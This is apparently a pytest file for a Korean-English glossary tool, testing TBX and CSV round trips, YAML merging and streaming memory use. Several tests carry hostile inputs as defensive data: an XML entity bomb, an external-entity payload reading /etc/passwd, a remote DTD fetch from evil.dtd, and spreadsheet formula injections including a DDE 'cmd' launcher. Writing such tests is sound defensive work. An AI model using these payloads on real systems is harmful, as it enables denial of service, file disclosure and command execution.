"""Interchange: TBX and CSV/TSV round trips, hostile XML, bad tables, merging into YAML."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from bilingo import load_glossary
from bilingo.errors import (
    BilingoError,
    GlossaryError,
    GlossaryProblems,
    InputError,
    UsageError,
)
from bilingo.formats import (
    decode_table_bytes,
    export_table,
    export_tbx,
    import_table,
    import_tbx,
    import_terms,
    iter_terms,
    merge_into,
)
from bilingo.glossary import read_glossary_file
from bilingo.terms import Term, TermType

DATA = Path(__file__).parent / "data"
FIELDS = ("ko", "en", "type", "variants", "en_variants", "note")


def content(terms) -> list[tuple]:
    return [tuple(getattr(term, name) for name in FIELDS) for term in terms]


@pytest.fixture
def terms(sample_glossary) -> list[Term]:
    return list(load_glossary([sample_glossary], use_cache=False))


TRICKY = Term(
    ko="리사 수",
    en='Lisa "Dr. Lisa" Su, Jr.',
    type=TermType.PERSON,
    variants=["리사수", "리사 쑤"],
    en_variants=["Dr. Su", "Lisa T. Su"],
    note="CEO of AMD; <b> & 'quotes', tabs\tare not kept",
)


# --------------------------------------------------------------------------- TBX


@pytest.mark.parametrize("version", [2, 3])
def test_tbx_round_trip_keeps_every_field(terms, version):
    assert content(import_tbx(export_tbx(terms, version=version))) == content(terms)


def test_tbx_round_trip_of_markup_and_quotes():
    [back] = import_tbx(export_tbx([TRICKY]).encode("utf-8"))
    assert content([back])[0][:5] == content([TRICKY])[0][:5]
    assert back.note == "CEO of AMD; <b> & 'quotes', tabs are not kept"


def test_tbx_v3_is_tbx_basic(terms):
    text = export_tbx(terms[:1], version=3)
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n')
    assert (
        '<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">'
        in text
    )
    for piece in (
        "<tbxHeader>",
        "<sourceDesc>",
        '<conceptEntry id="c1">',
        '<descrip type="subjectField">org</descrip>',
        "<note>Chinese AI start-up behind DeepSeek-R1</note>",
        '<langSec xml:lang="ko">',
        '<langSec xml:lang="en">',
        "<term>딥 시크</term>",
        '<termNote type="partOfSpeech">noun</termNote>',
        '<termNote type="termType">variant</termNote>',
        '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>',
        '<termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>',
    ):
        assert piece in text, piece


def test_tbx_v2_is_tbx_basic_2008_by_default(terms):
    text = export_tbx(terms[:1])
    assert text.startswith(
        '<?xml version="1.0" encoding="UTF-8"?>\n<martif type="TBX-Basic" xml:lang="en">\n'
    )
    for piece in (
        "<martifHeader>",
        "<sourceDesc>",
        '<p type="XCSURI">TBXBasicXCSV02.xcs</p>',
        '<termEntry id="c1">',
        '<descrip type="subjectField">org</descrip>',
        "<note>Chinese AI start-up behind DeepSeek-R1</note>",
        '<langSet xml:lang="ko">',
        '<langSet xml:lang="en">',
        "<tig>",
        "<term>딥 시크</term>",
        '<termNote type="termType">variant</termNote>',
        '<termNote type="administrativeStatus">preferredTerm-admn-sts</termNote>',
        '<termNote type="administrativeStatus">admittedTerm-admn-sts</termNote>',
    ):
        assert piece in text, piece
    for v3_only in ("<tbx", "conceptEntry", "langSec", "termSec", "xmlns"):
        assert v3_only not in text


def test_tbx_v2_is_read_by_translate_toolkit(terms):
    from translate.storage.tbx import tbxfile  # the reader of Weblate, Pootle and Virtaal

    store = tbxfile.parsestring(export_tbx(terms).encode(), "ko", "en")
    units = [unit for unit in store.units if unit.istranslatable()]
    assert [(unit.source, unit.target) for unit in units] == [(t.ko, t.en) for t in terms]
    nvidia = units[3]
    assert [term.text for term in nvidia.get_target_terms()] == ["Nvidia", "NVIDIA"]
    assert [term.administrative_status for term in nvidia.get_target_terms()] == [
        "preferredTerm-admn-sts",
        "admittedTerm-admn-sts",
    ]
    assert "Chinese AI start-up behind DeepSeek-R1" in units[0].getnotes()


def test_tbx_version_is_2_or_3():
    with pytest.raises(UsageError, match="TBX version 4"):
        export_tbx([], version=4)


def test_import_tbx_v2_from_a_cat_tool():
    imported = import_tbx((DATA / "formats_martif.tbx").read_bytes(), "martif.tbx")
    assert content(imported) == [
        ("앤트로픽", "Anthropic", TermType.ORG, ["앤스로픽"], ["Anthropic PBC"], "미국 AI 기업"),
        ("퍼플렉시티", "Perplexity AI", None, [], [], None),
    ]
    assert [term.line for term in imported] == [9, 40]


def test_import_tbx_without_korean_english_pairs():
    text = export_tbx([]).replace("<body />", "<body><conceptEntry id='c1'/></body>")
    with pytest.raises(GlossaryError, match="has both a Korean"):
        import_tbx(text, "x.tbx")


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE tbx [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<tbx><text><body><conceptEntry id="c1"><langSec xml:lang="ko"><termSec>
<term>&lol3;</term></termSec></langSec></conceptEntry></body></text></tbx>
"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<tbx><text><body><conceptEntry id="c1">
<langSec xml:lang="ko"><termSec><term>비밀</term></termSec></langSec>
<langSec xml:lang="en"><termSec><term>&secret;</term></termSec></langSec>
</conceptEntry></body></text></tbx>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE tbx [<!ENTITY % remote SYSTEM "http://example.com/evil.dtd"> %remote;]>
<tbx/>
"""


@pytest.mark.parametrize("hostile", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY])
def test_entities_are_refused(hostile):
    with pytest.raises(GlossaryError) as caught:
        import_tbx(hostile.encode(), "evil.tbx")
    assert str(caught.value).startswith("evil.tbx: refused: the file defines XML entities")


def nested(tag: str, depth: int) -> str:
    """A termEntry holding one ko/en pair and `depth` nested <tag> elements."""
    return (
        '<?xml version="1.0"?>\n<martif type="TBX-Basic"><text><body>\n<termEntry id="t1">'
        + f"<{tag}>" * depth
        + f"</{tag}>" * depth
        + '<langSet xml:lang="ko"><tig><term>딥시크</term></tig></langSet>'
        '<langSet xml:lang="en"><tig><term>DeepSeek</term></tig></langSet>'
        "</termEntry></body></text></martif>\n"
    )


@pytest.mark.parametrize("tag", ["descripGrp", "hi"])
def test_deeply_nested_tbx_is_refused(tag):
    with pytest.raises(GlossaryError) as caught:
        import_tbx(nested(tag, 50_000).encode(), "deep.tbx")
    assert str(caught.value) == (
        "deep.tbx:3: elements are nested more than 100 deep here; "
        "TBX needs about 10, so this is not a glossary"
    )


def test_nesting_within_the_limit_is_read():
    [term] = import_tbx(nested("descripGrp", 90), "ok.tbx")
    assert (term.ko, term.en) == ("딥시크", "DeepSeek")


def test_malformed_xml_names_the_line():
    text = (
        "<?xml version='1.0'?>\n<tbx>\n<text><body>\n<conceptEntry></langSec>\n</body></text></tbx>"
    )
    with pytest.raises(GlossaryError) as caught:
        import_tbx(text, "broken.tbx")
    assert str(caught.value) == (
        "broken.tbx:4: malformed XML (mismatched tag); is this really a TBX file?"
    )


def test_an_empty_tbx_file():
    with pytest.raises(GlossaryError, match="empty.tbx: is empty"):
        import_tbx(b"  \n", "empty.tbx")


def test_a_file_that_is_not_tbx():
    with pytest.raises(GlossaryError, match="root element is <html>"):
        import_tbx("<html><body/></html>", "page.tbx")


def test_invalid_tbx_entry_names_its_line():
    text = export_tbx([Term("딥시크", "DeepSeek")]).replace(
        "<term>딥시크</term>", "<term>2024</term>"
    )
    with pytest.raises(GlossaryError, match=r"x\.tbx:15: ko `2024` holds no Hangul"):
        import_tbx(text, "x.tbx")


# --------------------------------------------------------------------------- CSV / TSV


def test_two_column_csv_has_no_header_by_default(terms):
    text = export_table(terms[:2])
    assert text == "딥시크,DeepSeek\n하이퍼스케일러,hyperscaler\n"


def test_two_column_header_is_language_codes(terms):
    assert export_table(terms[:1], header=True) == "ko,en\n딥시크,DeepSeek\n"
    assert export_table(terms[:1], delimiter="\t", header=True) == "ko\ten\n딥시크\tDeepSeek\n"


def test_rich_csv_round_trip(terms):
    text = export_table(terms, rich=True)
    assert text.splitlines()[:2] == [
        "ko,en,type,variants,en_variants,note",
        "딥시크,DeepSeek,org,딥 시크,,Chinese AI start-up behind DeepSeek-R1",
    ]
    assert content(import_table(text)) == content(terms)


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_rich_round_trip_with_quotes_and_delimiters(delimiter):
    term = Term(TRICKY.ko, TRICKY.en, TRICKY.type, TRICKY.variants, TRICKY.en_variants, 'a, b; "c"')
    text = export_table([term], delimiter=delimiter, rich=True)
    assert content(import_table(text, delimiter)) == content([term])


def test_two_column_round_trip_with_and_without_header(terms):
    for header in (False, True):
        back = import_table(export_table(terms, header=header))
        assert [(t.ko, t.en) for t in back] == [(t.ko, t.en) for t in terms]


FORMULAS = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_export_neutralises_formula_cells(delimiter):
    terms = [Term(f"수식{number}", formula) for number, formula in enumerate(FORMULAS)]
    terms += [
        Term("=1+1 합계", "sum", variants=["-합계"], note="\tstarts with a tab"),
        Term("캐리지", "@home", en_variants=["+82"], note="\rstarts with a carriage return"),
    ]
    rich = cells(export_table(terms, delimiter, rich=True), delimiter)[1:]
    plain = cells(export_table(terms, delimiter), delimiter)
    assert [row[1] for row in plain[:4]] == ["'" + formula for formula in FORMULAS]
    assert rich[4] == ["'=1+1 합계", "sum", "", "'-합계", "", "'\tstarts with a tab"]
    assert rich[5] == ["캐리지", "'@home", "", "", "'+82", "'\rstarts with a carriage return"]
    for cell in (cell for row in rich + plain for cell in row):
        assert not cell.startswith(TRIGGERS), cell


APOSTROPHES = [
    Term("국가 번호", "+82", TermType.TERM, ["-국가번호"], ["-ish", "x"], "=not a formula"),
    Term("수식", '=HYPERLINK("http://x","y")', note="\tindented"),
    Term("구십년대", "'90s", en_variants=["'=quoted", "''+twice"], note="'-dash"),
    Term("캐리지", "cr", note="\rstarts with a carriage return,\rand holds one"),
]


@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_neutralised_cells_round_trip(delimiter):
    rich = export_table(APOSTROPHES, delimiter, rich=True)
    assert content(import_table(rich, delimiter)) == content(APOSTROPHES)
    plain = import_table(export_table(APOSTROPHES, delimiter), delimiter)
    assert [(t.ko, t.en) for t in plain] == [(t.ko, t.en) for t in APOSTROPHES]


def test_import_reads_a_spreadsheet_quote_prefix_as_text():
    [term] = import_table("국가 번호,'+82\n")
    assert term.en == "+82"
    [term] = import_table("구십년대,'90s\n")
    assert term.en == "'90s"


UNCLOSED_HINT = (
    "a quoted cell ends with a quote just before the {} or the line end, "
    'and a quote inside it is written ""'
)


@pytest.mark.parametrize(
    ("text", "where"),
    [
        (
            '딥시크,DeepSeek\n엔비디아,"Nvidia\n오픈AI,OpenAI\n서울,Seoul\n',
            "2: a quote opened here is not closed properly (lines 2-4 would be read as one cell)",
        ),
        (
            '딥시크,DeepSeek\n"엔비디아,Nvidia\n"오픈AI",OpenAI\n',
            "2: a quote opened here is not closed properly (lines 2-3 would be read as one cell)",
        ),
        ('딥시크,DeepSeek\n엔비디아,"Nvidia', "2: a quote opened here is not closed properly"),
        ('딥시크,"Deep" Seek\n', "1: a quote opened here is not closed properly"),
    ],
    ids=["runs-to-the-end", "closed-by-a-later-quote", "on-the-last-line", "text-after-the-quote"],
)
def test_an_unclosed_quote_names_the_line_it_opened(text, where):
    with pytest.raises(GlossaryError) as caught:
        import_table(text, path="bad.csv")
    assert str(caught.value) == f"bad.csv:{where}; {UNCLOSED_HINT.format('comma')}"


def test_an_unclosed_quote_in_tsv_names_the_tab():
    with pytest.raises(GlossaryError, match=r"bad\.tsv:1: .* just before the tab or"):
        import_table('딥시크\t"DeepSeek\n엔비디아\tNvidia\n', "\t", "bad.tsv")


def test_a_quoted_cell_may_span_lines():
    text = 'ko,en,type,variants,en_variants,note\n딥시크,DeepSeek,,,,"line one\nline two"\n서울,Seoul,,,,\n'
    first, second = import_table(text)
    assert first.note == "line one\nline two"
    assert (second.ko, second.line) == ("서울", 4)


def test_import_table_reads_an_en_ko_header_the_other_way():
    [term] = import_table("en,ko\nDeepSeek,딥시크\n")
    assert (term.ko, term.en) == ("딥시크", "DeepSeek")


def test_import_deepl_export_with_language_columns():
    imported = import_terms(DATA / "formats_deepl.csv")
    assert [(t.ko, t.en) for t in imported] == [
        ("앤트로픽", "Anthropic"),
        ("퍼플렉시티", "Perplexity"),
    ]


def test_import_table_skips_empty_lines_and_counts_lines():
    [first, second] = import_table("\n딥시크,DeepSeek\n\n\n엔비디아,Nvidia\n", path="t.csv")
    assert (first.line, second.line) == (2, 5)


def test_wrong_number_of_columns_names_the_line():
    text = "딥시크,DeepSeek\n엔비디아,Nvidia,org\n"
    with pytest.raises(GlossaryError) as caught:
        import_table(text, path="bad.csv")
    assert str(caught.value) == (
        "bad.csv:2: has 3 columns, but the table has 2 (ko, en); quote cells holding a comma"
    )


def test_first_row_with_an_odd_number_of_columns():
    with pytest.raises(GlossaryError, match=r"bad\.csv:1: has 3 columns"):
        import_table("a,b,c\n", path="bad.csv")


def test_every_bad_row_is_reported():
    text = "ko,en,type,variants,en_variants,note\n딥시크,,,,,\n엔비디아,Nvidia,company,,,\n"
    with pytest.raises(GlossaryProblems) as caught:
        import_table(text, path="bad.csv")
    assert str(caught.value).splitlines() == [
        "bad.csv:2: entry has no `en`; every entry needs ko and en",
        "bad.csv:3: type `company` is not one of: org, person, place, product, media, term, event",
    ]


def test_decode_accepts_utf8_with_bom():
    assert decode_table_bytes("\ufeff딥시크,DeepSeek\n".encode(), "t.csv") == "딥시크,DeepSeek\n"


def test_decode_refuses_other_encodings_naming_the_line():
    data = "딥시크,DeepSeek\n엔비디아,Nvidia\n".encode("cp949")
    with pytest.raises(GlossaryError) as caught:
        decode_table_bytes(data, "t.csv")
    assert str(caught.value) == (
        "t.csv:1: is not UTF-8 text; save it as UTF-8 (for example `iconv -f cp949 -t utf-8 FILE`)"
    )
    latin = "ko,en\n\ncafé,caf\xe9\n".encode("latin-1")
    with pytest.raises(GlossaryError, match=r"t\.csv:3: is not UTF-8"):
        decode_table_bytes(latin, "t.csv")


def test_decode_refuses_utf16():
    with pytest.raises(GlossaryError, match="is UTF-16"):
        decode_table_bytes("딥시크,DeepSeek".encode("utf-16"), "t.csv")


# --------------------------------------------------------------------------- import_terms


def test_import_terms_by_suffix(tmp_path, terms):
    for name, text in (
        ("g.tbx", export_tbx(terms)),
        ("g.xml", export_tbx(terms)),
        ("g.csv", export_table(terms, rich=True)),
        ("g.tsv", export_table(terms, delimiter="\t", rich=True)),
    ):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        assert content(import_terms(path)) == content(terms), name
    assert content(import_terms(DATA / "glossary" / "people.yaml")) == content(terms[5:])


def test_import_terms_of_an_unknown_kind(tmp_path):
    path = tmp_path / "terms.xlsx"
    path.write_bytes(b"PK")
    with pytest.raises(UsageError, match=r"import a \.tbx"):
        import_terms(path)


def test_import_terms_of_a_missing_file(tmp_path):
    for name in ("nope.csv", "nope.tbx", "nope.yaml"):
        with pytest.raises(InputError, match="no such file"):
            import_terms(tmp_path / name)


def test_import_terms_of_a_bad_yaml(tmp_path):
    path = tmp_path / "bad.yaml"
    path.write_text("terms:\n  - ko: 딥시크\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match="entry has no `en`"):
        import_terms(path)


# --------------------------------------------------------------------------- merge_into


def test_merge_into_a_new_file(tmp_path, terms):
    target = tmp_path / "new" / "imported.yaml"
    report = merge_into(target, terms)
    assert [t.ko for t in report.added] == [t.ko for t in terms]
    assert report.duplicates == [] and report.conflicts == []
    back, problems = read_glossary_file(target)
    assert problems == []
    assert content(back) == content(terms)
    assert report.added[0].source == f"{target}:3"


def test_merge_into_keeps_comments_and_reports_duplicates_and_conflicts(sample_glossary):
    target = sample_glossary / "ai.yaml"
    before = target.read_text(encoding="utf-8")
    incoming = [
        Term("딥시크", "DeepSeek"),  # same ko, same en: duplicate
        Term("엔비디아", "NVidia Corp"),  # same ko, other en: conflict
        Term("딥 시크", "Deep Seek"),  # a variant of an existing entry: conflict
        Term("앤트로픽", "Anthropic", TermType.ORG, ["앤스로픽"]),
        Term("앤스로픽", "Anthropic"),  # the new entry's own variant: duplicate
        Term("퍼플렉시티", "Perplexity", note="AI search"),
    ]
    report = merge_into(target, incoming)
    assert [t.ko for t in report.added] == ["앤트로픽", "퍼플렉시티"]
    assert [t.ko for t in report.duplicates] == ["딥시크", "앤스로픽"]
    assert [c.to_dict() for c in report.conflicts] == [
        {"ko": "엔비디아", "en": "NVidia Corp", "existing_en": "Nvidia", "source": f"{target}:16"},
        {"ko": "딥 시크", "en": "Deep Seek", "existing_en": "DeepSeek", "source": f"{target}:4"},
    ]
    after = target.read_text(encoding="utf-8")
    anchor = "    en: OpenAI\n    type: org\n"
    added = (
        "  - ko: 앤트로픽\n    en: Anthropic\n    type: org\n    variants: [앤스로픽]\n"
        "  - ko: 퍼플렉시티\n    en: Perplexity\n    note: AI search\n"
    )
    assert after == before.replace(anchor, anchor + added)
    assert len(load_glossary([sample_glossary], use_cache=False)) == 10


def test_merge_report_to_dict(tmp_path):
    report = merge_into(tmp_path / "g.yaml", [Term("딥시크", "DeepSeek"), Term("딥시크", "X")])
    assert report.to_dict() == {
        "path": str(tmp_path / "g.yaml"),
        "added": [{"ko": "딥시크", "en": "DeepSeek"}],
        "duplicates": [],
        "conflicts": [{"ko": "딥시크", "en": "X", "existing_en": "DeepSeek", "source": ""}],
    }


def test_merge_nothing_new_leaves_the_file_alone(sample_glossary, terms):
    target = sample_glossary / "people.yaml"
    before = target.read_bytes()
    report = merge_into(target, terms[5:])
    assert report.added == [] and len(report.duplicates) == 3
    assert target.read_bytes() == before


def test_merge_into_a_broken_file_writes_nothing(tmp_path):
    target = tmp_path / "broken.yaml"
    target.write_text("terms:\n  - ko: 딥시크\n", encoding="utf-8")
    with pytest.raises(GlossaryError, match="cannot import into a file with problems"):
        merge_into(target, [Term("엔비디아", "Nvidia")])
    assert target.read_text(encoding="utf-8") == "terms:\n  - ko: 딥시크\n"


def test_merge_into_a_non_yaml_target(tmp_path):
    with pytest.raises(GlossaryError, match="is not a .yaml file"):
        merge_into(tmp_path / "out.csv", [Term("딥시크", "DeepSeek")])
    assert not (tmp_path / "out.csv").exists()


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("bad.csv", "딥시크,DeepSeek\n엔비디아,Nvidia,org\n".encode()),
        ("bad.csv", "딥시크,DeepSeek\n".encode("cp949")),
        ("bad.csv", '딥시크,DeepSeek\n엔비디아,"Nvidia\n오픈AI,OpenAI\n'.encode()),
        pytest.param("bad.tbx", nested("descripGrp", 50_000).encode(), id="deep.tbx"),
        ("bad.tbx", BILLION_LAUGHS.encode()),
        ("bad.tbx", EXTERNAL_ENTITY.encode()),
        ("bad.tbx", b"<tbx><text><body>"),
    ],
)
def test_bad_input_writes_nothing(sample_glossary, tmp_path, name, data):
    source = tmp_path / name
    source.write_bytes(data)
    target = sample_glossary / "ai.yaml"
    before = target.read_bytes()
    with pytest.raises(BilingoError):
        merge_into(target, import_terms(source))
    assert target.read_bytes() == before


def test_yaml_tbx_yaml_round_trip_through_files(tmp_path, terms):
    exported = tmp_path / "out.tbx"
    exported.write_text(export_tbx(terms), encoding="utf-8")
    merge_into(tmp_path / "back.yaml", import_terms(exported))
    back = list(load_glossary([tmp_path / "back.yaml"], use_cache=False))
    assert content(back) == content(terms)
    assert yaml.safe_load((tmp_path / "back.yaml").read_text(encoding="utf-8"))["terms"]


# --------------------------------------------------------------------------- streaming


def test_a_table_file_is_read_as_it_is_consumed(tmp_path):
    # The bad byte on the last line is only met when that line is read: the
    # first term comes out before it, so the file is not decoded whole first.
    path = tmp_path / "big.csv"
    path.write_bytes("딥시크,DeepSeek\n".encode() * 50_000 + "엔비디아,Nvidia\n".encode("cp949"))
    terms = iter_terms(path)
    first = next(terms)
    assert (first.ko, first.en, first.line) == ("딥시크", "DeepSeek", 1)
    with pytest.raises(GlossaryError, match=r"big\.csv:50001: is not UTF-8"):
        list(terms)


def test_merging_a_stream_that_fails_late_writes_nothing(sample_glossary, tmp_path):
    path = tmp_path / "late.csv"
    path.write_text("앤트로픽,Anthropic\n" + "퍼플렉시티,Perplexity,extra\n", encoding="utf-8")
    target = sample_glossary / "ai.yaml"
    before = target.read_bytes()
    with pytest.raises(GlossaryError, match=r"late\.csv:2: has 3 columns"):
        merge_into(target, iter_terms(path))
    assert target.read_bytes() == before


STREAMING_PROBE = """
import resource, sys
from bilingo.formats import iter_terms

def peak_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux

before = peak_mb()
count = sum(1 for _ in iter_terms(sys.argv[1]))
print(count, peak_mb() - before)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in kilobytes on Linux only")
def test_reading_200000_rows_keeps_one_row_at_a_time(tmp_path):
    # Measured in a child of its own: the peak RSS of this process, or of all
    # its children (RUSAGE_CHILDREN), would include whatever other tests did.
    # Holding the rows (text, cells and terms, as import_terms did before
    # issue 9) takes about 140 MB for 200,000 rows; a streaming read, none.
    path = tmp_path / "big.csv"
    with path.open("w", encoding="utf-8") as table:
        for number in range(200_000):
            syllables = "".join(chr(0xAC00 + number // 11172**k % 11172) for k in range(2))
            table.write(f"용어{syllables},term {number}\n")
    probe = subprocess.run(
        [sys.executable, "-c", STREAMING_PROBE, str(path)],
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    count, growth = probe.stdout.split()
    assert int(count) == 200_000
    assert float(growth) < 40, f"reading grew the peak RSS by {growth} MB"


IMPORT_PROBE = """
import resource, sys
from bilingo.formats import iter_terms, merge_into

def peak_mb():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024  # kilobytes on Linux

before = peak_mb()
report = merge_into(sys.argv[2], iter_terms(sys.argv[1]))
print(len(report.added), report.added[-1].line, peak_mb() - before)
"""


@pytest.mark.skipif(sys.platform != "linux", reason="ru_maxrss is in kilobytes on Linux only")
def test_importing_200000_rows_holds_each_entry_about_once(tmp_path):
    # The import must hold its new entries (the report's Terms) until the write; the write
    # itself streams: the new text goes to the temporary file entry by entry and is checked
    # by reading it back as a stream. Measured growth of the peak RSS: 124 MB; parsing the
    # file whole before and after and building the new text in memory (before issue 9's
    # fix) took 420 MB.
    source, target = tmp_path / "big.csv", tmp_path / "new.yaml"
    with source.open("w", encoding="utf-8") as table:
        for number in range(200_000):
            syllables = "".join(chr(0xAC00 + number // 11172**k % 11172) for k in range(2))
            table.write(f"용어{syllables},term {number}\n")
    probe = subprocess.run(
        [sys.executable, "-c", IMPORT_PROBE, str(source), str(target)],
        capture_output=True,
        text=True,
        timeout=300,
        check=True,
    )
    count, last_line, growth = probe.stdout.split()
    assert (int(count), int(last_line)) == (200_000, 3 + 2 * 199_999)  # after the header
    assert float(growth) < 200, f"importing grew the peak RSS by {growth} MB"
    assert target.read_text(encoding="utf-8").endswith("  - ko: 용어퍛갑\n    en: term 199999\n")
